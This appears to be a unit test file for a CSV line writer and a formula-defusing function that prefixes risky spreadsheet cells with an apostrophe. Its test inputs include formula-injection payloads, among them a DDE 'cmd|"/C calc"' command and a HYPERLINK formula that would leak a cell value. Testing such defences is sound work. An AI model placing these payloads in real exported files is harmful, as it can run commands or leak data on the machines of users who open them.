import { csvLine, defuseFormula } from './csv-line';

describe('csvLine', () => {
  it.each([
    [['a', 'b'], 'a,b'],
    [['', ''], ','],
    [['a,b', 'c'], '"a,b",c'],
    [['say "hi"'], '"say ""hi"""'],
    [['"'], '""""'],
    [['two\nlines', 'two\r\nlines', 'a\rb'], '"two\nlines","two\r\nlines","a\rb"'],
    [[' padded ', "it's"], " padded ,it's"],
    [['a;=1+1', 'a\t=1'], '"a;=1+1","a\t=1"'],
    [['Grüße 🎂', '日本'], 'Grüße 🎂,日本'],
    [['=1+1', '=A1,B1', '\rx'], `'=1+1,"'=A1,B1","'\rx"`],
    [['-3', '+49 30 901820'], "-3,'+49 30 901820"],
    [['\n=1'], `"'\n=1"`],
  ])('%j', (cells, line) => {
    expect(csvLine(cells)).toBe(`${line}\r\n`);
  });

  it('doubles every quote of a very large cell', () => {
    const quotes = '"'.repeat(4_000_000);
    expect(csvLine([quotes]) === `"${quotes}${quotes}"\r\n`).toBe(true);
  });
});

describe('defuseFormula', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://example.com?x="&A1,"Click")',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '+1+1',
    '-1+1',
    '-2+3+cmd|"/C calc"!A0',
    '+',
    '-',
    '--1',
    '+-1',
    '- 3',
    '-3 ',
    '-3\n',
    '-1,5',
    '-1.5.2',
    '-e3',
    '-1e',
    '-0x10',
    '-Infinity',
    '-٣',
    '- a list entry',
    '+1-2',
    '+(1)-(2)',
    '-1-800-555-0199',
    '+49 30 901820 ext. 5',
    '+49 30 901820\n',
    '+49\t30 901820',
    '+1234 5678901234567',
    '+() . -',
    '+49 30 901820',
    '+1 (212) 555-0199',
    '+1-800-555-0199',
    '+46.70.123.45.67',
    '+1-2-3-4-5',
    '+(1) 234 567',
    '\n',
    '\n=1',
    '\nplain',
    ' =1+1',
    '  -3',
    '\u00A0=1',
    '\u200B@SUM(A1)',
    '\uFEFF+1+1',
    '\u00AD \u2060=1',
    '\u0000=1',
    '\u3164=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '\ufe661+1',
    '\ufe621',
    '\ufe631',
    '\ufe6bSUM(A1)',
    ' \u200B＝1',
  ])('puts an apostrophe before %j', (text) => {
    expect(defuseFormula(text)).toBe(`'${text}`);
  });

  it.each([
    '-3',
    '+4.5',
    '+.5',
    '-5.',
    '-1e3',
    '+1E-7',
    '1e3',
    '+4912345',
    '+4930901820',
    '030 / 901820',
    '',
    ' padded',
    '\u200B',
    "'=1+1",
    'a=1',
    '1+1',
    'a\n=1',
    'Ümlaut 🎂',
    '(030) 901820',
  ])('does not change %j', (text) => {
    expect(defuseFormula(text)).toBe(text);
  });
});
